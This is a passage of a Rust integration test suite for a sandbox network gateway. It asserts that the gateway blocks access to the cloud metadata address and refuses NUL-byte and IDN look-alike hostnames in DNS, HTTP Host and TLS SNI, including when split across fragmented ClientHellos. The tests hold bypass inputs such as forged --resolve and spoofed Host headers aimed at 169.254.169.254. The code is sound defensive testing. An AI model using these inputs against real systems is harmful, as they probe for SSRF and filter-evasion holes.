    assert!(own.contains("from-b"), "{own}");

    let _ = env.ts.client.delete_sandbox(&other).await;
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_metadata_address_is_unreachable() {
    let env = sandbox().await;
    let literal = env.curl("http://169.254.169.254/latest/meta-data/").await;
    assert_eq!(literal.status, 403, "{literal:?}");
    // A name whose upstream answer is the metadata address: the answer is dropped.
    let by_name = env.curl("http://metadata.example/").await;
    assert_eq!(by_name.exit, Some(6), "does not resolve: {by_name:?}");
    assert!(env.inet.dns_queries(internet::METADATA_NAME) >= 1);
    let forged = env
        .curl("--resolve metadata.example:80:169.254.169.254 http://metadata.example/")
        .await;
    assert_eq!(forged.status, 403, "{forged:?}");
    let spoofed_host = env
        .curl("-H 'Host: allowed.example' http://169.254.169.254/")
        .await;
    assert_eq!(spoofed_host.status, 403, "{spoofed_host:?}");
    assert_eq!(env.hits(Listener::MetadataHttp), 0);
    env.finish().await;
}

// ---------------------------------------------------------------------------------------
// Host name spellings
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn trailing_dot_names_are_canonicalised() {
    let env = sandbox().await;
    for url in ["http://allowed.example./", "https://allowed.example./"] {
        let r = env.curl(url).await;
        assert!(r.ok() && r.body == PAGE, "{url}: {r:?}");
    }
    let host = env
        .curl("-H 'Host: allowed.example.' http://allowed.example/")
        .await;
    assert!(host.ok() && host.body == PAGE, "{host:?}");
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn upper_case_names_are_canonicalised() {
    let env = sandbox().await;
    for url in ["http://ALLOWED.Example/", "https://ALLOWED.Example/"] {
        let r = env.curl(url).await;
        assert!(r.ok() && r.body == PAGE, "{url}: {r:?}");
    }
    let host = env
        .curl("-H 'Host: Allowed.EXAMPLE' http://allowed.example/")
        .await;
    assert!(host.ok() && host.body == PAGE, "{host:?}");
    let sni = env
        .run(&format!(
            "timeout 15 openssl s_client -connect 11.0.0.1:443 -servername ALLOWED.EXAMPLE \
             -verify_return_error -CAfile {CA} </dev/null"
        ))
        .await;
    assert_eq!(sni.status.exit_code, Some(0), "{}", sni.stdout_str());
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn hostnames_with_nul_are_refused() {
    let env = sandbox().await;
    env.allowed_works().await;
    let (https, seen) = (env.hits(Listener::Https), env.upstream_requests());
    let nul_name: &[u8] = b"allowed.example\0.denied.example";

    // DNS (over TCP to the gateway: the guest has no raw UDP client): NXDOMAIN (rcode 3).
    env.put("/tmp/q", dns_query_tcp(&[b"allowed\0", b"example"]))
        .await;
    let answer = env.raw_hex("10.0.2.1 53", "/tmp/q", 3).await;
    // Length prefix (2 bytes), id (2), flags (2): the rcode is the low nibble of byte 5.
    let rcode = answer.get(11..12).unwrap_or_default();
    assert_eq!(rcode, "3", "NXDOMAIN: {answer}");

    // HTTP Host.
    let mut req = b"GET / HTTP/1.1\r\nHost: ".to_vec();
    req.extend(nul_name);
    req.extend(b"\r\nConnection: close\r\n\r\n");
    env.put("/tmp/req", req).await;
    let out = env.raw_text("11.0.0.1 80", "/tmp/req", 0).await;
    assert!(out.starts_with("HTTP/1.1 4"), "{out}");

    // TLS SNI: the proxy closes without a byte.
    env.put("/tmp/hello", client_hello(nul_name, 4096)).await;
    let tls = env.raw_hex("11.0.0.1 443", "/tmp/hello", 8).await;
    assert_eq!(tls, "", "no TLS answer");

    assert_eq!(env.hits(Listener::Https), https);
    assert_eq!(
        env.upstream_requests(),
        seen,
        "nothing went past the gateway: {:?}",
        env.inet.requests()
    );
    let nul_queries: Vec<_> = env
        .inet
        .all_dns_queries()
        .into_iter()
        .filter(|q| q.contains("\\000"))
        .collect();
    assert!(nul_queries.is_empty(), "{nul_queries:?}");
    env.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn idn_look_alike_names_are_refused() {
    let env = sandbox().await;
    env.allowed_works().await;
    let (https, seen) = (env.hits(Listener::Https), env.upstream_requests());
    // "аllowed.example" with a Cyrillic а (U+0430); its A-label is xn--llowed-2nf.example.
    let look_alike = "\u{430}llowed.example";

    // In a URL (curl turns it into its A-label when the locale lets libidn2 read UTF-8,
    // else refuses the URL itself), as its A-label, and as raw UTF-8 in a DNS question.
    let by_name = env.curl(&format!("http://{look_alike}/")).await;
    assert_ne!(by_name.exit, Some(0), "{by_name:?}");
    let punycode = env.curl("http://xn--llowed-2nf.example/").await;
    assert_eq!(punycode.exit, Some(6), "{punycode:?}");
    let dns = env.text(&format!("nslookup -type=A {look_alike}")).await;
    assert!(dns.contains("NXDOMAIN"), "{dns}");

    // As the Host of a request to the allowed name's pinned address (raw UTF-8, and a
    // full-width spelling that IDNA mapping would turn into the allowed name).
    for host in [look_alike, "\u{ff41}llowed.example"] {
        let mut req = b"GET / HTTP/1.1\r\nHost: ".to_vec();
        req.extend(host.as_bytes());
        req.extend(b"\r\nConnection: close\r\n\r\n");
        env.put("/tmp/req", req).await;
        let out = env.raw_text("11.0.0.1 80", "/tmp/req", 0).await;
        assert!(out.starts_with("HTTP/1.1 4"), "{host}: {out}");
        assert!(!out.contains(PAGE), "{host}: {out}");
    }

    // As SNI: raw UTF-8, and the A-label.
    env.put("/tmp/hello", client_hello(look_alike.as_bytes(), 4096))
        .await;
    assert_eq!(env.raw_hex("11.0.0.1 443", "/tmp/hello", 8).await, "");
    env.put("/tmp/hello", client_hello(b"xn--llowed-2nf.example", 4096))
        .await;
    assert_eq!(env.raw_hex("11.0.0.1 443", "/tmp/hello", 8).await, "");

    assert_eq!(env.hits(Listener::Https), https);
    assert_eq!(
        env.upstream_requests(),
        seen,
        "nothing went past the gateway: {:?}",
        env.inet.requests()
    );
    env.finish().await;
}

// ---------------------------------------------------------------------------------------
// The ClientHello itself
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn fragmented_client_hellos_are_reassembled_and_judged() {
    let env = sandbox().await;
    env.allowed_works().await;
    // The pass-through name resolves through the gateway, which pins its address.
    let pinned = env.curl("https://pinned.example/").await;
    assert!(pinned.ok() && pinned.body == PAGE, "{pinned:?}");
    let https = env.hits(Listener::Https);
    // Long ALPN ids make OpenSSL's hello outgrow one 512-byte record (the smallest
    // `-max_send_frag`); the server picks http/1.1.
    let padding = (0..6)
        .map(|i| format!("x-padding-{i}-{}", "p".repeat(100)))
        .collect::<Vec<_>>()
        .join(",");
    let s_client = |sni: &str| {
        format!(
            "timeout 15 openssl s_client -connect 11.0.0.1:443 -servername {sni} \
             -max_send_frag 512 -alpn http/1.1,{padding} -verify_return_error -CAfile {CA} \
             </dev/null"
        )
    };

    // An allowed name whose rule asks for pass-through, split by a real client:
    // reassembled, judged, passed through whole.
    let ok = env.run(&s_client(PASS_THROUGH)).await;
    assert_eq!(ok.status.exit_code, Some(0), "{}", ok.stdout_str());
    assert!(
        ok.stdout_str().contains("Verify return code: 0"),
        "{}",
        ok.stdout_str()
    );
    // And cut into 16-byte records: the server's hello comes back.
    env.put("/tmp/hello", client_hello(PASS_THROUGH.as_bytes(), 16))
        .await;
    let tiny = env.raw_hex("11.0.0.1 443", "/tmp/hello", 3).await;
    assert!(tiny.starts_with(TLS_SERVER_HELLO_HEX), "{tiny}");
    assert_eq!(env.hits(Listener::Https), https + 2);
    assert_eq!(
        env.inet.fragmented_hellos(Listener::Https),
        2,
        "both arrived fragmented, as sent"
    );

    // A denied name, split the same ways: refused.
    let denied = env.run(&s_client("denied.example")).await;
    assert_ne!(denied.status.exit_code, Some(0), "{}", denied.stdout_str());
    env.put("/tmp/hello", client_hello(b"denied.example", 16))
        .await;
    assert_eq!(env.raw_hex("11.0.0.1 443", "/tmp/hello", 8).await, "");
    assert_eq!(env.hits(Listener::Https), https + 2);
    env.finish().await;
}
